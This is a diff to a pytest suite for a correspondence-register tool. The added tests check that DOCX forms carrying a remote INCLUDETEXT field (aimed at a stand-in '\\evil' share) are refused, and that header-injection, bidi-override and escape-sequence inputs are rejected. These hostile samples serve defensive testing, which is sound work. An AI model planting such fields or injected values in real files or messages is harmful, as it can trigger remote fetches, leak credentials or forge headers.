@@ -337,6 +337,32 @@ def test_a_form_with_a_field_that_reaches_outside_is_refused(
     assert db_snapshot(run.root) == before and tree(run.root) == files_before
 
 
+@pytest.mark.parametrize("part", ["word/footnotes.xml", "word/comments.xml", "word/endnotes.xml"])
+def test_a_live_field_in_any_part_is_refused(run, returned_form, tmp_path, part):
+    """Parts python-docx does not write into: the field goes into the package's XML directly
+    (a footnote, a comment, or a part Word never shows)."""
+    import zipfile
+
+    field = (
+        f'<w:r xmlns:w="{W_NS}"><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'<w:r xmlns:w="{W_NS}"><w:instrText> INCLUDETEXT "\\\\evil\\x.docx" </w:instrText></w:r>'
+        f'<w:r xmlns:w="{W_NS}"><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+    xml = f'<w:root xmlns:w="{W_NS}"><w:p>{field}</w:p></w:root>'
+    hostile = tmp_path / "hostile.docx"
+    with zipfile.ZipFile(returned_form) as src, zipfile.ZipFile(hostile, "w") as out:
+        names = src.namelist()
+        for name in names:
+            data = src.read(name)
+            if name == part:
+                data = data.replace(b"</w:p>", field.encode() + b"</w:p>", 1)
+            out.writestr(name, data)
+        if part not in names:
+            out.writestr(part, xml)
+    result = run("answer", "import", str(hostile), code=1)
+    assert f"hostile.docx: {part} holds a INCLUDETEXT field" in result.stderr
+
+
 def test_a_form_with_ordinary_fields_is_accepted(run, returned_form, tmp_path):
     import docx
 
@@ -625,3 +651,37 @@ def test_a_letter_dated_outside_its_references_year_needs_force(
     result = registered("edit", "AL BEL 2/2025", "--date", "2018-01-01", code=2)
     assert "--force" in result.stderr
     registered("edit", "AL BEL 2/2025", "--date", "2018-01-01", "--force")
+
+
+# --- the pure rules behind the checks above -----------------------------------------------
+
+
+def test_single_and_multi_line_fields():
+    from commresp.errors import BadInput
+    from commresp.rules import input_text
+
+    assert input_text.single_line("  Federal Police ", "--name-en") == "Federal Police"
+    assert input_text.single_line("مكتب \u200fالشرطة", "--name-en")  # RLM is fine
+    with pytest.raises(BadInput, match=r"--subject must be one line of text; it holds a line "):
+        input_text.single_line("a\r\nBcc: x", "--subject")
+    with pytest.raises(BadInput, match=r"a bidi override \(U\+202E"):
+        input_text.single_line("\u202eevil", "--subject")
+    with pytest.raises(BadInput, match="bytes that are not text"):
+        input_text.single_line("caf\udce9", "--subject")
+    assert input_text.multi_line("one\r\ntwo\rthree\tfour", "--summary") == (
+        "one\ntwo\nthree\tfour"
+    )
+    with pytest.raises(BadInput, match=r"a control character \(U\+001B\)"):
+        input_text.multi_line("one\n\x1b[31m", "--summary")
+
+
+def test_letter_date_fits_its_reference_year():
+    from datetime import date
+
+    from commresp.rules.references import letter_date_fits
+
+    assert letter_date_fits(2025, date(2025, 7, 22), date(2025, 7, 24))
+    assert letter_date_fits(2025, date(2024, 12, 30), date(2025, 1, 6))
+    assert not letter_date_fits(2025, date(2024, 12, 30), date(2025, 2, 1))
+    assert not letter_date_fits(2025, date(2023, 12, 30), date(2025, 1, 6))
+    assert not letter_date_fits(2025, date(2026, 1, 2), date(2026, 1, 3))
